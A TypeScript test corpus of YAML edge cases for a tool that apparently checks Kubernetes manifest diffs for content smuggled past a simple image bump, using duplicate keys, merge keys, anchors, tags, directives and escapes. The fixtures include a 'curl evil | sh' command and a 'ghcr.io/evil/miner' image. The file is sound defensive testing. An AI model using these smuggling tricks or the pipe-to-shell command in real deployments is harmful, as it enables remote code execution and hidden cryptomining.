/** The strict YAML profile and values that parse alike but are spelled differently. */
import type { CorpusCase } from './cases.js'
import { bump, NEW, base } from './case-helpers.js'
import { BUMPED, D, MS_PATH, REPO, SERVICE, microservice } from './manifests.js'

/** The Microservice with its spec as one flow mapping: `spec: {image: …, port: 8080}`. */
const flowSpec = (image: string): string =>
  microservice({ image }).replace(/^spec:\n {2}image: (.*)\n {2}port: 8080\n/m, 'spec: {image: $1, port: 8080}\n')

export const YAML_CASES: CorpusCase[] = [
  {
    name: 'duplicate spec.image: Go keeps the last',
    threat: 'duplicate keys',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: `  image: ghcr.io/evil/miner@${D.c}` }) },
    expect: ['duplicate-key'],
    differential: 'go'
  },
  {
    name: 'duplicate top-level spec',
    threat: 'duplicate keys',
    base: base(),
    head: { [MS_PATH]: `${BUMPED}spec:\n  image: ghcr.io/evil/miner@${D.c}\n` },
    expect: ['duplicate-key'],
    differential: 'go'
  },
  {
    name: 'duplicate image key in a flow mapping spec',
    threat: 'duplicate keys',
    base: { [MS_PATH]: flowSpec(`${REPO}:1.4.2@${D.a}`) },
    head: { [MS_PATH]: flowSpec(`${NEW}, image: ghcr.io/evil/miner@${D.c}`) },
    expect: ['duplicate-key'],
    differential: 'go-only'
  },
  {
    name: 'YAML 1.1 boolean keys that collide in Kubernetes',
    threat: 'YAML 1.1 yes/on keys',
    base: { [MS_PATH]: microservice({ specExtra: '  flags:\n    on: "1"\n    true: "2"' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  flags:\n    on: "1"\n    true: "2"' }) },
    expect: ['outside-subset']
  },
  {
    name: 'merge key pulls in a command',
    threat: 'merge keys',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  <<: {command: ["sh", "-c", "curl evil | sh"]}' }) },
    expect: ['merge-key'],
    differential: 'go'
  },
  {
    name: 'anchor and alias reuse the image',
    threat: 'anchors and aliases',
    base: base(),
    head: { [MS_PATH]: microservice({ image: `&img ${NEW}`, specExtra: '  sidecarImage: *img' }) },
    expect: ['image-form']
  },
  {
    name: 'anchor only',
    threat: 'anchors and aliases',
    base: base(),
    head: { [MS_PATH]: microservice({ image: `&img ${NEW}` }) },
    expect: ['image-form']
  },
  {
    name: 'alias before its anchor',
    threat: 'anchors and aliases',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  sidecarImage: *img\n  other: &img x' }) },
    expect: ['alias']
  },
  {
    name: '!!str tag on the image',
    threat: 'tags !!str',
    base: base(),
    head: { [MS_PATH]: bump(`!!str ${NEW}`) },
    expect: ['tag']
  },
  {
    name: '!!binary tag on a field',
    threat: 'tags !!binary',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  config: !!binary aGVsbG8=' }) },
    expect: ['tag']
  },
  {
    name: '%YAML 1.1 directive',
    threat: '%YAML directives',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, prelude: '%YAML 1.1\n---\n' }) },
    expect: ['document-mismatch']
  },
  {
    name: '%YAML directive inside the changed document',
    threat: '%YAML directives',
    base: base(),
    head: { [MS_PATH]: `${BUMPED}%YAML 1.1\n` },
    expect: ['directive']
  },
  {
    name: '%TAG directive',
    threat: '%YAML directives',
    base: base(),
    head: { [MS_PATH]: microservice({ image: NEW, prelude: '%TAG !k! tag:k8s.io,2024:\n---\n' }) },
    expect: ['document-mismatch']
  },
  {
    name: 'document end marker then more content',
    threat: '... document ends',
    base: base(),
    head: { [MS_PATH]: `${BUMPED}...\n${SERVICE}` },
    expect: ['document-end']
  },
  {
    name: 'YAML 1.1 octal: port 8 becomes 010',
    threat: 'YAML 1.1 scalars 010',
    base: { [MS_PATH]: microservice({ specExtra: '  replicas: 8' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  replicas: 010' }) },
    expect: ['outside-image']
  },
  {
    name: 'YAML 1.1 boolean: "true" becomes yes',
    threat: 'YAML 1.1 yes/on',
    base: { [MS_PATH]: microservice({ specExtra: '  debug: false' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  debug: on' }) },
    expect: ['outside-image'],
    differential: 'go'
  },
  {
    name: 'integer beyond 2^53 changes by one',
    threat: 'integers beyond 2^53',
    base: { [MS_PATH]: microservice({ specExtra: '  quotaBytes: 9007199254740992' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  quotaBytes: 9007199254740993' }) },
    expect: ['outside-image'],
    differential: 'go'
  },
  {
    name: 'escape in a double-quoted image',
    threat: 'escapes in double quotes',
    base: { [MS_PATH]: bump(`"${REPO}:1.4.2@${D.a}"`) },
    head: { [MS_PATH]: bump(`"ghcr.io/acme/todo-api:1.4.2@sha256:\\x62${D.b.slice(8)}"`) },
    expect: ['outside-subset']
  },
  {
    name: 'escape of the subset in a double-quoted image',
    threat: 'escapes in double quotes',
    base: { [MS_PATH]: bump(`"${REPO}:1.4.2@${D.a}"`) },
    head: { [MS_PATH]: bump(`"ghcr.io/acme/todo-api:1.4.2@sha256:\\u0062${D.b.slice(8)}"`) },
    expect: ['image-form']
  },
  {
    name: 'escape that spells the same value elsewhere',
    threat: 'escapes in double quotes',
    base: { [MS_PATH]: microservice({ specExtra: '  profile: "dev"' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  profile: "\\x64ev"' }) },
    expect: ['outside-subset']
  },
  {
    name: 'escape of the subset that spells the same value elsewhere',
    threat: 'escapes in double quotes',
    base: { [MS_PATH]: microservice({ specExtra: '  profile: "dev"' }) },
    head: { [MS_PATH]: microservice({ image: NEW, specExtra: '  profile: "\\u0064ev"' }) },
    expect: ['outside-image']
  },
  {
    name: 'block scalar image',
    threat: 'escapes in double quotes',
    base: base(),
    head: { [MS_PATH]: bump(`>-\n    ${NEW}`) },
    expect: ['image-form']
  },
  {
    name: 'broken YAML',
    threat: 'strict profile',
    base: base(),
    head: { [MS_PATH]: `${BUMPED}  - stray: [\n` },
    expect: ['outside-subset']
  }
]
